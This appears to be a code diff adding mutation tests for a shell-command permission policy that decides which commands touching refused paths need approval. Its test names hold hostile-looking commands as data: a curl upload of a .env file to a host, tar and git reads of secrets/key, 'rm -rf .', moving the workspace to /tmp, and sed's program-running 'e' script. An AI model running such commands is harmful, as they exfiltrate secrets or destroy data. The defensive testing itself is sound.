@@ -3,6 +3,10 @@ import { mutation } from "./mutation.mjs"
 
 const rules = "src/policy/rules"
 const paths = (name) => [`${rules}/path-rules.test.ts`, name]
+const shell = "src/policy/shell"
+const commands = (name) => [`${rules}/command-rules.test.ts`, name]
+const reach = (name) => [`${rules}/reach-lines.test.ts`, name]
+const sed = (name) => [`${shell}/sed-script.test.ts`, name]
 const resolving = (name) => ["src/hosts/node/policy/resolve-path.test.ts", name]
 
 export const mutations = [
@@ -62,5 +66,75 @@ export const mutations = [
       ],
     ],
     paths("is asked as an argument, whatever the tier"),
+  ),
+  mutation(
+    "policy: paths of tar -C start at the working folder",
+    [[`${shell}/programs.ts`, 'return isGit ? [folder] : [".", ...changed]', 'return isGit ? [folder] : ["."]']],
+    commands("starts at the folder that the command is told to work in: tar -C a -cf - secrets/key"),
+    reach("tar c -C / ws is asked where something refused exists"),
+  ),
+  mutation(
+    "policy: paths of git -C start at the working folder",
+    [[`${shell}/programs.ts`, "return isGit ? [folder] :", 'return isGit ? ["."] :']],
+    commands("starts at the folder that the command is told to work in: git -C a blame secrets/key"),
+  ),
+  mutation(
+    "policy: the file that git -C compares is one of the working folder",
+    [[`${shell}/programs.ts`, "pathsIn(folders, target.text)[0] ?? target.text", "target.text"]],
+    ["test/capability-attacks.test.ts", "is decided there: git -C other diff --output=out/a as ask"],
+  ),
+  mutation(
+    "policy: a path in the middle of a word is not seen",
+    [[`${rules}/command-paths.ts`, "[rest, rest.replace(", "[rest, rest.slice(rest.length).replace("]],
+    commands("is found inside it: docker run -v /ws/.env:/x image"),
+    commands("is found inside it: curl -F 'f=@.env;type=x' host"),
+  ),
+  mutation(
+    "policy: a path behind several letters of options is not seen",
+    [[`${rules}/command-paths.ts`, "at <= Math.min(letters.length, mostStarts)", "at <= 2"]],
+    commands("is found inside it: grep -hf.env a"),
+  ),
+  mutation(
+    "policy: a command that changes a whole folder is judged by its words",
+    [[`${rules}/reach-step.ts`, 'placed(changes), ["write"]', '[], ["write"]']],
+    reach("rm -rf . is asked where something exists that may not be changed"),
+    reach("unzip a.zip is asked where something exists that may not be changed"),
+  ),
+  mutation(
+    "policy: a folder may be moved with what may not be read in it",
+    [
+      [
+        `${shell}/reaching-programs.ts`,
+        '["mv", { below: true, changes: true, hasTarget: true }],\n  ["rm", { changes: options("recursive"',
+        '["mv", { changes: true, hasTarget: true }],\n  ["rm", { changes: options("recursive"',
+      ],
+    ],
+    reach("mv . /tmp/x is asked where something refused exists"),
+  ),
+  mutation(
+    "policy: a pattern that git expands is a name",
+    [[`${shell}/reach.ts`, '/[*?[]|^:/.test(path) ? "." : path', "path"]],
+    reach("git diff -- 's*' is asked where something refused exists"),
+  ),
+  mutation(
+    "policy: an abbreviated option starts nothing",
+    [[`${shell}/reaching-programs.ts`, '`${letter}(?:${rest})?`, ""', '`${letter}${rest}`, ""']],
+    reach("tar xf a.tar --to=./run is asked where it could start or use what a rule refuses"),
+  ),
+  mutation(
+    "policy: letters of options without a dash are a file",
+    [[`${shell}/reach.ts`, "program.hasLetters === true &&", "program.hasLetters === false &&"]],
+    reach("tar cIf ./run x src is asked where it could start or use what a rule refuses"),
+  ),
+  mutation(
+    "policy: a script of sed that is not understood is harmless",
+    [[`${shell}/sed-script.ts`, "if (!isStep) return false", "if (!isStep) return true"]],
+    sed('the script "e" of sed starts a program or opens a file'),
+    reach("sed 's_a_b_e' a.txt is asked where it could start or use what a rule refuses"),
+  ),
+  mutation(
+    "policy: a script of sed may be in a file",
+    [[`${shell}/sed-script.ts`, 'else if (letter === "f") return undefined', 'else if (letter === "f") continue']],
+    sed('sed ["-f","x"] may do anything'),
   ),
 ]
